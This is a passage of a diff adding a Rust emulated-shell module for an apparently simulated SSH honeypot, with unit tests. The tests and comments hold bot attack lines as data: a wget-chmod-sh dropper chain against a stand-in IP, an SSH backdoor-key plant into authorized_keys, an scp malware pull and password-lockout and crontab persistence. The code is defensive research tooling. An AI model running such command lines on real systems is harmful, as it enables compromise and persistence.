@@ -1,0 +1,1029 @@
+//! The emulated Unix shell (paper §3.2).
+//!
+//! After a successful login the client gets a shell that emulates common
+//! Unix commands ("known") and merely records anything else ("unknown").
+//! The emulation level mirrors Cowrie where the paper's findings depend on
+//! it:
+//!
+//! * `wget`/`curl`/`tftp`/`ftpget` actually "download": content comes from
+//!   a [`RemoteStore`] (the simulated malware-hosting ecosystem); dropped
+//!   files are hashed.
+//! * `echo … > file` / `>> file` creates/extends files (how `mdrfckr`
+//!   plants its key), and the *new* content hash is recorded.
+//! * `passwd`/`chpasswd` and `crontab` edits surface as file modifications
+//!   (shadow/crontab), making them state-changing.
+//! * `scp`/`rsync`/`sftp` are **not** emulated — they are recorded unknown
+//!   and transfer nothing, producing Fig. 4b's "file missing" execs.
+//! * `/bin/busybox APPLET` runs known applets; an unknown applet (the
+//!   `bbox_*` bots' 5-char probe) answers `applet not found`.
+
+use crate::record::{FileEvent, FileOp};
+use crate::vfs::Vfs;
+
+/// Source of remote file content for download commands.
+///
+/// The botnet crate implements this over its malware-storage ecosystem;
+/// tests use closures/maps.
+pub trait RemoteStore {
+    /// Returns the content served at `uri`, or `None` when the dropper is
+    /// unreachable or the path is dead.
+    fn fetch(&self, uri: &str) -> Option<Vec<u8>>;
+}
+
+/// A store with nothing in it.
+pub struct NullStore;
+
+impl RemoteStore for NullStore {
+    fn fetch(&self, _uri: &str) -> Option<Vec<u8>> {
+        None
+    }
+}
+
+impl<F: Fn(&str) -> Option<Vec<u8>>> RemoteStore for F {
+    fn fetch(&self, uri: &str) -> Option<Vec<u8>> {
+        self(uri)
+    }
+}
+
+/// Result of executing one input line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CmdOutcome {
+    /// Emulated terminal output.
+    pub output: String,
+    /// Whether *every* simple command on the line was emulated.
+    pub known: bool,
+}
+
+/// The per-session shell: owns the VFS and accumulates observations.
+pub struct Shell<'s> {
+    vfs: Vfs,
+    store: &'s dyn RemoteStore,
+    uris: Vec<String>,
+    file_events: Vec<FileEvent>,
+    root_password_changed: bool,
+    hostname: String,
+}
+
+impl<'s> Shell<'s> {
+    /// A fresh shell over a fresh VFS.
+    pub fn new(store: &'s dyn RemoteStore) -> Self {
+        Self {
+            vfs: Vfs::new(),
+            store,
+            uris: Vec::new(),
+            file_events: Vec::new(),
+            root_password_changed: false,
+            hostname: "svr04".to_string(),
+        }
+    }
+
+    /// URIs observed so far, in order.
+    pub fn uris(&self) -> &[String] {
+        &self.uris
+    }
+
+    /// File events observed so far, in order.
+    pub fn file_events(&self) -> &[FileEvent] {
+        &self.file_events
+    }
+
+    /// Drains accumulated observations (used when building the record).
+    pub fn take_observations(&mut self) -> (Vec<String>, Vec<FileEvent>) {
+        (std::mem::take(&mut self.uris), std::mem::take(&mut self.file_events))
+    }
+
+    /// Whether a `passwd`/`chpasswd` ran (the mdrfckr lockout).
+    pub fn root_password_changed(&self) -> bool {
+        self.root_password_changed
+    }
+
+    /// Read access to the VFS (for tests and the wire adapter).
+    pub fn vfs(&self) -> &Vfs {
+        &self.vfs
+    }
+
+    /// Executes one input line (possibly containing `;`, `&&`, `||`, `|`).
+    pub fn exec_line(&mut self, line: &str) -> CmdOutcome {
+        let mut output = String::new();
+        let mut known = true;
+        let segments = split_segments(line);
+        let mut i = 0;
+        while i < segments.len() {
+            // Detect `echo X | chpasswd`-style pipelines we emulate whole.
+            let seg = segments[i].trim();
+            if seg.is_empty() {
+                i += 1;
+                continue;
+            }
+            let (out, ok) = self.exec_simple(seg);
+            if !out.is_empty() {
+                output.push_str(&out);
+                if !out.ends_with('\n') {
+                    output.push('\n');
+                }
+            }
+            known &= ok;
+            i += 1;
+        }
+        CmdOutcome { output, known }
+    }
+
+    /// Executes one simple command. Returns (output, known).
+    fn exec_simple(&mut self, cmd: &str) -> (String, bool) {
+        // Record URIs appearing anywhere in the command (paper §3.2).
+        for uri in extract_uris(cmd) {
+            self.uris.push(uri);
+        }
+        let (argv, redirect) = tokenize(cmd);
+        if argv.is_empty() {
+            return (String::new(), true);
+        }
+        let name = argv[0].as_str();
+        let args: Vec<&str> = argv[1..].iter().map(String::as_str).collect();
+        let (out, known) = match name {
+            "cd" => {
+                let target = args.first().copied().unwrap_or("/root");
+                if self.vfs.chdir(target) {
+                    (String::new(), true)
+                } else {
+                    (format!("bash: cd: {target}: No such file or directory"), true)
+                }
+            }
+            "mkdir" => {
+                for a in args.iter().filter(|a| !a.starts_with('-')) {
+                    self.vfs.mkdir(a);
+                }
+                (String::new(), true)
+            }
+            "rm" => self.cmd_rm(&args),
+            "echo" => self.cmd_echo(&args, redirect.as_ref()),
+            "cat" => self.cmd_cat(&args, redirect.as_ref()),
+            "wget" => self.cmd_wget(&args),
+            "curl" => self.cmd_curl(&args, redirect.as_ref()),
+            "tftp" => self.cmd_tftp(&args),
+            "ftpget" => self.cmd_ftpget(&args),
+            "chmod" => {
+                for a in args.iter().filter(|a| !a.starts_with('-') && !a.starts_with('+') && !is_mode(a)) {
+                    self.vfs.set_executable(a);
+                }
+                (String::new(), true)
+            }
+            "uname" => (self.cmd_uname(&args), true),
+            "nproc" => ("4".to_string(), true),
+            "id" => ("uid=0(root) gid=0(root) groups=0(root)".to_string(), true),
+            "whoami" => ("root".to_string(), true),
+            "hostname" => (self.hostname.clone(), true),
+            "ls" => (self.vfs.list(args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or(".")).join("  "), true),
+            "pwd" => (self.vfs.cwd().to_string(), true),
+            "ps" => ("  PID TTY          TIME CMD\n    1 ?        00:00:02 init\n  842 ?        00:00:00 sshd".to_string(), true),
+            "free" => ("              total        used        free\nMem:        1024000      312000      712000".to_string(), true),
+            "lscpu" => ("Architecture:        x86_64\nCPU(s):              4\nModel name:          Intel(R) Celeron(R) CPU J1900 @ 1.99GHz".to_string(), true),
+            "which" => {
+                let t = args.first().copied().unwrap_or("");
+                if is_known_binary(t) { (format!("/usr/bin/{t}"), true) } else { (String::new(), true) }
+            }
+            "history" => ("    1  uname -a".to_string(), true),
+            "passwd" | "chpasswd" => self.cmd_passwd(),
+            "crontab" => self.cmd_crontab(&args),
+            "touch" => {
+                for a in args.iter().filter(|a| !a.starts_with('-')) {
+                    let (p, h, existed) = self.vfs.append(a, b"");
+                    let op = if existed { continue } else { FileOp::Created { sha256: h } };
+                    self.file_events.push(FileEvent { path: p, op, source_uri: None });
+                }
+                (String::new(), true)
+            }
+            "mv" | "cp" => self.cmd_mv_cp(name, &args),
+            "dd" => self.cmd_dd(&args),
+            "head" | "tail" | "grep" | "awk" | "wc" | "sort" | "uniq" | "tr" | "cut" | "sed" => {
+                (String::new(), true)
+            }
+            "export" | "ulimit" | "set" | "unset" | "alias" | "sync" | "sleep" | "exit"
+            | "logout" | "yes" | "true" | "false" | "kill" | "pkill" | "killall" | "nohup"
+            | "env" | "w" | "last" | "uptime" | "top" | "df" | "du" | "mount" | "lspci"
+            | "ifconfig" | "netstat" | "ssh-keygen" | "base64" | "openssl" | "perl"
+            | "python" | "md5sum" | "sha256sum" | "chattr" | "systemctl" | "service"
+            | "iptables" | "apt" | "apt-get" | "yum" | "history-c" => (String::new(), true),
+            "busybox" | "/bin/busybox" => self.cmd_busybox(&args),
+            "sh" | "bash" | "/bin/sh" | "/bin/bash" | "ash" => self.cmd_sh(&args),
+            // Not emulated by Cowrie: recorded unknown. scp/rsync/sftp are
+            // deliberately here (paper §5: the honeypot cannot capture
+            // files transferred this way).
+            "scp" | "rsync" | "sftp" | "ftp" => (format!("bash: {name}: command not found"), false),
+            _ => {
+                if looks_like_path(name) {
+                    self.exec_file(name)
+                } else {
+                    (format!("bash: {name}: command not found"), false)
+                }
+            }
+        };
+        (out, known)
+    }
+
+    fn cmd_rm(&mut self, args: &[&str]) -> (String, bool) {
+        let recursive = args.iter().any(|a| a.starts_with('-') && a.contains('r'));
+        for a in args.iter().filter(|a| !a.starts_with('-')) {
+            if let Some(stripped) = a.strip_suffix("/*") {
+                // `rm -rf dir/*`: empty the directory, keep it.
+                let dir = stripped.to_string();
+                for name in self.vfs.list(&dir) {
+                    let child = format!("{}/{}", dir.trim_end_matches('/'), name);
+                    if self.vfs.file_exists(&child) {
+                        if let Some(p) = self.vfs.remove(&child) {
+                            self.file_events.push(FileEvent { path: p, op: FileOp::Deleted, source_uri: None });
+                        }
+                    } else if recursive {
+                        for p in self.vfs.remove_tree(&child) {
+                            self.file_events.push(FileEvent { path: p, op: FileOp::Deleted, source_uri: None });
+                        }
+                    }
+                }
+            } else if recursive && self.vfs.dir_exists(a) {
+                for p in self.vfs.remove_tree(a) {
+                    self.file_events.push(FileEvent { path: p, op: FileOp::Deleted, source_uri: None });
+                }
+            } else if let Some(p) = self.vfs.remove(a) {
+                self.file_events.push(FileEvent { path: p, op: FileOp::Deleted, source_uri: None });
+            }
+        }
+        (String::new(), true)
+    }
+
+    fn cmd_echo(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
+        let interpret = args.first().is_some_and(|a| *a == "-e" || *a == "-en" || *a == "-ne");
+        let text_args: Vec<&str> =
+            args.iter().filter(|a| !(a.starts_with('-') && a.len() <= 3)).copied().collect();
+        let mut text = text_args.join(" ");
+        if interpret {
+            text = decode_escapes(&text);
+        }
+        match redirect {
+            Some(r) => {
+                let mut content = text.into_bytes();
+                content.push(b'\n');
+                let (p, h, existed) = if r.append {
+                    self.vfs.append(&r.target, &content)
+                } else {
+                    self.vfs.write(&r.target, &content)
+                };
+                let op = if existed {
+                    FileOp::Modified { sha256: h }
+                } else {
+                    FileOp::Created { sha256: h }
+                };
+                self.file_events.push(FileEvent { path: p, op, source_uri: None });
+                (String::new(), true)
+            }
+            None => (text, true),
+        }
+    }
+
+    fn cmd_cat(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
+        let mut out = String::new();
+        for a in args.iter().filter(|a| !a.starts_with('-')) {
+            match self.vfs.read(a) {
+                Some(content) => out.push_str(&String::from_utf8_lossy(content)),
+                None => out.push_str(&format!("cat: {a}: No such file or directory\n")),
+            }
+        }
+        if let Some(r) = redirect {
+            let (p, h, existed) = if r.append {
+                self.vfs.append(&r.target, out.as_bytes())
+            } else {
+                self.vfs.write(&r.target, out.as_bytes())
+            };
+            let op =
+                if existed { FileOp::Modified { sha256: h } } else { FileOp::Created { sha256: h } };
+            self.file_events.push(FileEvent { path: p, op, source_uri: None });
+            return (String::new(), true);
+        }
+        (out, true)
+    }
+
+    fn download(&mut self, uri: &str, dest: &str) -> (String, bool) {
+        match self.store.fetch(uri) {
+            Some(content) => {
+                let (p, h, existed) = self.vfs.write(dest, &content);
+                let op = if existed {
+                    FileOp::Modified { sha256: h }
+                } else {
+                    FileOp::Created { sha256: h }
+                };
+                self.file_events.push(FileEvent {
+                    path: p,
+                    op,
+                    source_uri: Some(uri.to_string()),
+                });
+                (format!("'{dest}' saved"), true)
+            }
+            None => {
+                self.file_events.push(FileEvent {
+                    path: self.vfs.resolve(dest),
+                    op: FileOp::DownloadFailed,
+                    source_uri: Some(uri.to_string()),
+                });
+                ("Connecting... failed: Connection refused.".to_string(), true)
+            }
+        }
+    }
+
+    fn cmd_wget(&mut self, args: &[&str]) -> (String, bool) {
+        let mut uri: Option<String> = None;
+        let mut dest: Option<String> = None;
+        let mut it = args.iter().peekable();
+        while let Some(a) = it.next() {
+            match *a {
+                "-O" | "-o" => {
+                    if let Some(d) = it.next() {
+                        dest = Some((*d).to_string());
+                    }
+                }
+                s if s.starts_with('-') => {}
+                s => {
+                    let u = normalize_uri(s);
+                    uri = Some(u);
+                }
+            }
+        }
+        let Some(uri) = uri else { return ("wget: missing URL".to_string(), true) };
+        let dest = dest.unwrap_or_else(|| basename_of_uri(&uri));
+        self.download(&uri, &dest)
+    }
+
+    fn cmd_curl(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
+        let mut uri: Option<String> = None;
+        let mut dest: Option<String> = None;
+        let mut remote_name = false;
+        let mut it = args.iter().peekable();
+        while let Some(a) = it.next() {
+            match *a {
+                "-o" => {
+                    if let Some(d) = it.next() {
+                        dest = Some((*d).to_string());
+                    }
+                }
+                "-O" => remote_name = true,
+                // Flags with a value we must skip.
+                "-X" | "--cookie" | "--referer" | "--max-redirs" | "-H" | "-d" | "--data"
+                | "-A" | "--user-agent" => {
+                    it.next();
+                }
+                s if s.starts_with('-') => {}
+                s => uri = Some(normalize_uri(s)),
+            }
+        }
+        let Some(uri) = uri else { return ("curl: no URL specified".to_string(), true) };
+        if remote_name && dest.is_none() {
+            dest = Some(basename_of_uri(&uri));
+        }
+        if dest.is_none() {
+            if let Some(r) = redirect {
+                dest = Some(r.target.clone());
+            }
+        }
+        match dest {
+            Some(d) => self.download(&uri, &d),
+            None => {
+                // Plain curl writes the body to stdout — the curl_maxred
+                // proxy abuse never touches the filesystem.
+                match self.store.fetch(&uri) {
+                    Some(body) => (String::from_utf8_lossy(&body).into_owned(), true),
+                    None => ("curl: (7) Failed to connect".to_string(), true),
+                }
+            }
+        }
+    }
+
+    fn cmd_tftp(&mut self, args: &[&str]) -> (String, bool) {
+        // Forms: `tftp -g -r FILE HOST` and `tftp HOST -c get FILE`.
+        let mut file: Option<&str> = None;
+        let mut host: Option<&str> = None;
+        let mut it = args.iter().peekable();
+        while let Some(a) = it.next() {
+            match *a {
+                "-r" | "-l" => file = it.next().copied(),
+                "-c" => {
+                    // `-c get FILE`
+                    if it.next().copied() == Some("get") {
+                        file = it.next().copied();
+                    }
+                }
+                "-g" | "-p" => {}
+                s if s.starts_with('-') => {}
+                s => {
+                    if host.is_none() {
+                        host = Some(s);
+                    }
+                }
+            }
+        }
+        match (host, file) {
+            (Some(h), Some(f)) => {
+                let uri = format!("tftp://{h}/{f}");
+                self.uris.push(uri.clone());
+                self.download(&uri, f)
+            }
+            _ => ("tftp: usage error".to_string(), true),
+        }
+    }
+
+    fn cmd_ftpget(&mut self, args: &[&str]) -> (String, bool) {
+        // busybox ftpget [-u user -p pass] HOST LOCAL REMOTE
+        let pos: Vec<&str> = {
+            let mut out = Vec::new();
+            let mut it = args.iter().peekable();
+            while let Some(a) = it.next() {
+                if *a == "-u" || *a == "-p" || *a == "-P" {
+                    it.next();
+                } else if !a.starts_with('-') {
+                    out.push(*a);
+                }
+            }
+            out
+        };
+        if pos.len() < 2 {
+            return ("ftpget: usage error".to_string(), true);
+        }
+        let host = pos[0];
+        let local = pos[1];
+        let remote = pos.get(2).copied().unwrap_or(local);
+        let uri = format!("ftp://{host}/{remote}");
+        self.uris.push(uri.clone());
+        self.download(&uri, local)
+    }
+
+    fn cmd_uname(&self, args: &[&str]) -> String {
+        let all =
+            format!("Linux {} 3.10.0-957.el7.x86_64 #1 SMP x86_64 GNU/Linux", self.hostname);
+        if args.is_empty() {
+            return "Linux".to_string();
+        }
+        match args.join(" ").as_str() {
+            "-a" => all,
+            "-s -v -n -r -m" => format!(
+                "Linux #1 SMP {} 3.10.0-957.el7.x86_64 x86_64",
+                self.hostname
+            ),
+            "-s -v -n -r" => {
+                format!("Linux #1 SMP {} 3.10.0-957.el7.x86_64", self.hostname)
+            }
+            "-s -n -r -i" => format!("Linux {} 3.10.0-957.el7.x86_64 x86_64", self.hostname),
+            "-m" => "x86_64".to_string(),
+            "-n" => self.hostname.clone(),
+            "-r" => "3.10.0-957.el7.x86_64".to_string(),
+            _ => all,
+        }
+    }
+
+    fn cmd_passwd(&mut self) -> (String, bool) {
+        self.root_password_changed = true;
+        // Surface as a shadow-file modification so it counts as a state
+        // change, as the paper treats the mdrfckr lockout.
+        let (p, h, _) = self.vfs.write("/etc/shadow", b"root:$6$new$locked:19200:0:99999:7:::\n");
+        self.file_events.push(FileEvent { path: p, op: FileOp::Modified { sha256: h }, source_uri: None });
+        (String::new(), true)
+    }
+
+    fn cmd_crontab(&mut self, args: &[&str]) -> (String, bool) {
+        if args.first() == Some(&"-l") {
+            return ("no crontab for root".to_string(), true);
+        }
+        // Any install/edit writes the spool file.
+        let (p, h, existed) = self.vfs.write("/var/spool/cron/root", b"* * * * * /tmp/.x/upd\n");
+        let op = if existed { FileOp::Modified { sha256: h } } else { FileOp::Created { sha256: h } };
+        self.file_events.push(FileEvent { path: p, op, source_uri: None });
+        (String::new(), true)
+    }
+
+    fn cmd_mv_cp(&mut self, name: &str, args: &[&str]) -> (String, bool) {
+        let pos: Vec<&str> = args.iter().filter(|a| !a.starts_with('-')).copied().collect();
+        if pos.len() < 2 {
+            return (format!("{name}: missing operand"), true);
+        }
+        let (src, dst) = (pos[0], pos[1]);
+        match self.vfs.read(src).map(<[u8]>::to_vec) {
+            Some(content) => {
+                let (p, h, existed) = self.vfs.write(dst, &content);
+                let op = if existed {
+                    FileOp::Modified { sha256: h }
+                } else {
+                    FileOp::Created { sha256: h }
+                };
+                self.file_events.push(FileEvent { path: p, op, source_uri: None });
+                if name == "mv" {
+                    if let Some(rp) = self.vfs.remove(src) {
+                        self.file_events.push(FileEvent { path: rp, op: FileOp::Deleted, source_uri: None });
+                    }
+                }
+                (String::new(), true)
+            }
+            None => (format!("{name}: cannot stat '{src}': No such file or directory"), true),
+        }
+    }
+
+    fn cmd_dd(&mut self, args: &[&str]) -> (String, bool) {
+        // Bots use `dd if=/proc/self/exe bs=22 count=1` to fingerprint; an
+        // `of=` target creates a file.
+        let mut of: Option<&str> = None;
+        let mut iff: Option<&str> = None;
+        for a in args {
+            if let Some(v) = a.strip_prefix("of=") {
+                of = Some(v);
+            } else if let Some(v) = a.strip_prefix("if=") {
+                iff = Some(v);
+            }
+        }
+        let content = iff
+            .and_then(|p| self.vfs.read(p).map(<[u8]>::to_vec))
+            .unwrap_or_else(|| b"\x7fELF".to_vec());
+        if let Some(target) = of {
+            let (p, h, existed) = self.vfs.write(target, &content);
+            let op = if existed {
+                FileOp::Modified { sha256: h }
+            } else {
+                FileOp::Created { sha256: h }
+            };
+            self.file_events.push(FileEvent { path: p, op, source_uri: None });
+            (String::new(), true)
+        } else {
+            (String::from_utf8_lossy(&content[..content.len().min(22)]).into_owned(), true)
+        }
+    }
+
+    fn cmd_busybox(&mut self, args: &[&str]) -> (String, bool) {
+        let Some(applet) = args.first() else {
+            return ("BusyBox v1.22.1 multi-call binary.".to_string(), true);
+        };
+        let lower = applet.to_lowercase();
+        const APPLETS: &[&str] = &[
+            "cat", "echo", "wget", "tftp", "ftpget", "rm", "cp", "mv", "chmod", "mkdir", "ps",
+            "ls", "dd", "hostname", "ifconfig", "kill",
+        ];
+        if APPLETS.contains(&lower.as_str()) && *applet == lower {
+            let rest: Vec<String> = args[1..].iter().map(|s| s.to_string()).collect();
+            let rest_refs: Vec<&str> = rest.iter().map(String::as_str).collect();
+            let joined = format!("{} {}", lower, rest_refs.join(" "));
+            return self.exec_simple(joined.trim());
+        }
+        // The bbox probe: `/bin/busybox KDVJS` → applet not found.
+        (format!("{applet}: applet not found"), true)
+    }
+
+    fn cmd_sh(&mut self, args: &[&str]) -> (String, bool) {
+        // `sh -c "cmds"` executes inline; `sh FILE` executes a file.
+        if args.first() == Some(&"-c") {
+            if let Some(script) = args.get(1) {
+                let out = self.exec_line(script);
+                return (out.output, out.known);
+            }
+            return (String::new(), true);
+        }
+        match args.iter().find(|a| !a.starts_with('-')) {
+            Some(file) => self.exec_file(file),
+            None => (String::new(), true),
+        }
+    }
+
+    /// A command tried to execute `path` (directly or via `sh file`).
+    fn exec_file(&mut self, path: &str) -> (String, bool) {
+        let resolved = self.vfs.resolve(path);
+        let hash = self.vfs.hash_of(&resolved);
+        let found = hash.is_some();
+        self.file_events.push(FileEvent {
+            path: resolved.clone(),
+            op: FileOp::ExecAttempt { sha256: hash },
+            source_uri: None,
+        });
+        if found {
+            // Dropped malware "runs"; Cowrie prints nothing useful.
+            (String::new(), true)
+        } else {
+            (format!("bash: {path}: No such file or directory"), true)
+        }
+    }
+}
+
+/// A parsed output redirection.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Redirect {
+    target: String,
+    append: bool,
+}
+
+/// Splits a command line at top-level `;`, `&&`, `||`, `|` (quote-aware).
+fn split_segments(line: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut chars = line.chars().peekable();
+    let mut quote: Option<char> = None;
+    while let Some(c) = chars.next() {
+        match quote {
+            Some(q) => {
+                cur.push(c);
+                if c == q {
+                    quote = None;
+                }
+            }
+            None => match c {
+                '\'' | '"' => {
+                    quote = Some(c);
+                    cur.push(c);
+                }
+                ';' => {
+                    out.push(std::mem::take(&mut cur));
+                }
+                '&' if chars.peek() == Some(&'&') => {
+                    chars.next();
+                    out.push(std::mem::take(&mut cur));
+                }
+                '|' => {
+                    if chars.peek() == Some(&'|') {
+                        chars.next();
+                    }
+                    out.push(std::mem::take(&mut cur));
+                }
+                _ => cur.push(c),
+            },
+        }
+    }
+    out.push(cur);
+    out.into_iter().filter(|s| !s.trim().is_empty()).collect()
+}
+
+/// Tokenizes one simple command into argv plus an optional redirection.
+/// Handles single/double quotes and `>`/`>>` (with or without a space).
+fn tokenize(cmd: &str) -> (Vec<String>, Option<Redirect>) {
+    let mut argv: Vec<String> = Vec::new();
+    let mut redirect: Option<Redirect> = None;
+    let mut cur = String::new();
+    let mut chars = cmd.chars().peekable();
+    let mut quote: Option<char> = None;
+    let mut pending_redirect: Option<bool> = None; // Some(append)
+
+    let flush = |cur: &mut String,
+                     argv: &mut Vec<String>,
+                     redirect: &mut Option<Redirect>,
+                     pending: &mut Option<bool>| {
+        if cur.is_empty() {
+            return;
+        }
+        let tok = std::mem::take(cur);
+        match pending.take() {
+            Some(append) => *redirect = Some(Redirect { target: tok, append }),
+            None => argv.push(tok),
+        }
+    };
+
+    while let Some(c) = chars.next() {
+        match quote {
+            Some(q) => {
+                if c == q {
+                    quote = None;
+                } else {
+                    cur.push(c);
+                }
+            }
+            None => match c {
+                '\'' | '"' => quote = Some(c),
+                ' ' | '\t' => flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect),
+                '>' => {
+                    flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect);
+                    let append = chars.peek() == Some(&'>');
+                    if append {
+                        chars.next();
+                    }
+                    pending_redirect = Some(append);
+                }
+                _ => cur.push(c),
+            },
+        }
+    }
+    flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect);
+    (argv, redirect)
+}
+
+/// `echo -e` escape decoding for the subset bots use (`\xHH`, `\n`, `\t`).
+fn decode_escapes(s: &str) -> String {
+    let mut out = String::new();
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('x') => {
+                let mut v = 0u32;
+                let mut n = 0;
+                while n < 2 {
+                    match chars.peek().and_then(|c| c.to_digit(16)) {
+                        Some(d) => {
+                            v = v * 16 + d;
+                            chars.next();
+                            n += 1;
+                        }
+                        None => break,
+                    }
+                }
+                if n > 0 {
+                    if let Some(ch) = char::from_u32(v) {
+                        out.push(ch);
+                    }
+                } else {
+                    out.push_str("\\x");
+                }
+            }
+            Some('n') => out.push('\n'),
+            Some('t') => out.push('\t'),
+            Some('\\') => out.push('\\'),
+            Some(other) => {
+                out.push('\\');
+                out.push(other);
+            }
+            None => out.push('\\'),
+        }
+    }
+    out
+}
+
+/// Finds `scheme://…` URIs in a command string.
+fn extract_uris(cmd: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for tok in cmd.split_whitespace() {
+        let t = tok.trim_matches(|c| c == '"' || c == '\'' || c == ';');
+        if let Some(idx) = t.find("://") {
+            let scheme = &t[..idx];
+            if !scheme.is_empty()
+                && scheme.chars().all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '-')
+            {
+                out.push(t.to_string());
+            }
+        }
+    }
+    out
+}
+
+/// `wget 1.2.3.4/x.sh` means `http://1.2.3.4/x.sh`.
+fn normalize_uri(s: &str) -> String {
+    if s.contains("://") {
+        s.to_string()
+    } else {
+        format!("http://{s}")
+    }
+}
+
+/// Last path component of a URI, or `index.html` for bare hosts.
+fn basename_of_uri(uri: &str) -> String {
+    let after_scheme = uri.split("://").nth(1).unwrap_or(uri);
+    let parts: Vec<&str> = after_scheme.split('/').collect();
+    match parts[1..].last() {
+        Some(b) if !b.is_empty() => b.to_string(),
+        _ => "index.html".to_string(),
+    }
+}
+
+fn looks_like_path(name: &str) -> bool {
+    name.starts_with("./") || name.starts_with('/') || name.contains('/')
+}
+
+fn is_mode(a: &str) -> bool {
+    a.chars().all(|c| c.is_ascii_digit()) && a.len() <= 4
+}
+
+fn is_known_binary(t: &str) -> bool {
+    matches!(t, "wget" | "curl" | "sh" | "bash" | "perl" | "python" | "busybox" | "tftp")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    struct MapStore(HashMap<String, Vec<u8>>);
+
+    impl RemoteStore for MapStore {
+        fn fetch(&self, uri: &str) -> Option<Vec<u8>> {
+            self.0.get(uri).cloned()
+        }
+    }
+
+    fn store() -> MapStore {
+        let mut m = HashMap::new();
+        m.insert("http://203.0.113.5/bins.sh".to_string(), b"#!/bin/sh\nMIRAI\n".to_vec());
+        m.insert("tftp://203.0.113.5/tftp1.sh".to_string(), b"#!/bin/sh\nTFTP\n".to_vec());
+        m.insert("ftp://203.0.113.5/f.bin".to_string(), b"\x7fELF-f".to_vec());
+        MapStore(m)
+    }
+
+    #[test]
+    fn segment_splitting_respects_quotes() {
+        assert_eq!(split_segments("a; b && c || d | e"), vec!["a", " b ", " c ", " d ", " e"]);
+        assert_eq!(split_segments(r#"echo "a;b" ; c"#), vec![r#"echo "a;b" "#, " c"]);
+    }
+
+    #[test]
+    fn tokenizer_handles_quotes_and_redirects() {
+        let (argv, r) = tokenize(r#"echo "hello world" >> /tmp/x"#);
+        assert_eq!(argv, vec!["echo", "hello world"]);
+        assert_eq!(r, Some(Redirect { target: "/tmp/x".into(), append: true }));
+        let (argv, r) = tokenize("echo hi>file");
+        assert_eq!(argv, vec!["echo", "hi"]);
+        assert_eq!(r, Some(Redirect { target: "file".into(), append: false }));
+    }
+
+    #[test]
+    fn echo_ok_scout() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line(r#"echo -e "\x6F\x6B""#);
+        assert_eq!(out.output.trim(), "ok");
+        assert!(out.known);
+        assert!(sh.file_events().is_empty(), "no state change");
+    }
+
+    #[test]
+    fn uname_variants() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        assert!(sh.exec_line("uname -a").output.contains("Linux"));
+        assert!(sh.exec_line("uname -s -v -n -r -m").output.contains("x86_64"));
+        assert!(sh.exec_line("nproc").output.contains('4'));
+    }
+
+    #[test]
+    fn mdrfckr_key_plant_is_state_changing() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let line = r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nz...Bdj mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#;
+        let out = sh.exec_line(line);
+        // `lockr` is not a real tool — the line is partially unknown.
+        assert!(!out.known);
+        let created: Vec<_> = sh
+            .file_events()
+            .iter()
+            .filter(|e| matches!(e.op, FileOp::Created { .. }))
+            .collect();
+        assert_eq!(created.len(), 1);
+        assert_eq!(created[0].path, "/root/.ssh/authorized_keys");
+    }
+
+    #[test]
+    fn wget_downloads_and_hashes() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh");
+        assert_eq!(sh.uris(), &["http://203.0.113.5/bins.sh".to_string()]);
+        let ev = sh.file_events();
+        assert!(matches!(&ev[0].op, FileOp::Created { sha256 } if sha256.len() == 64));
+        assert_eq!(ev[0].path, "/tmp/bins.sh");
+        assert!(matches!(&ev[1].op, FileOp::ExecAttempt { sha256: Some(_) }));
+        assert!(matches!(&ev[2].op, FileOp::Deleted));
+    }
+
+    #[test]
+    fn dead_dropper_records_failure() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("wget http://198.51.100.99/gone.sh");
+        assert!(matches!(sh.file_events()[0].op, FileOp::DownloadFailed));
+        // Exec of the never-downloaded file is a missing exec.
+        sh.exec_line("sh gone.sh");
+        assert!(matches!(sh.file_events()[1].op, FileOp::ExecAttempt { sha256: None }));
+    }
+
+    #[test]
+    fn scp_is_not_emulated_so_exec_misses() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line("scp user@203.0.113.7:/malware /tmp/m");
+        assert!(!out.known, "scp must be recorded unknown");
+        sh.exec_line("chmod +x /tmp/m; /tmp/m");
+        assert!(
+            matches!(sh.file_events().last().unwrap().op, FileOp::ExecAttempt { sha256: None }),
+            "file pushed via scp is never captured"
+        );
+    }
+
+    #[test]
+    fn curl_to_stdout_is_not_a_state_change() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line(
+            "curl https://203.0.113.200/ -s -X GET --max-redirs 5 --cookie 'k=v' --raw",
+        );
+        assert!(out.known);
+        assert!(sh.file_events().is_empty());
+        assert_eq!(sh.uris(), &["https://203.0.113.200/".to_string()]);
+    }
+
+    #[test]
+    fn curl_with_o_downloads() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("curl -o /tmp/b.sh http://203.0.113.5/bins.sh");
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+        assert_eq!(sh.file_events()[0].path, "/tmp/b.sh");
+    }
+
+    #[test]
+    fn tftp_and_ftpget() {
+        let s = store();
+        let mut sh = Shell::new(&s);
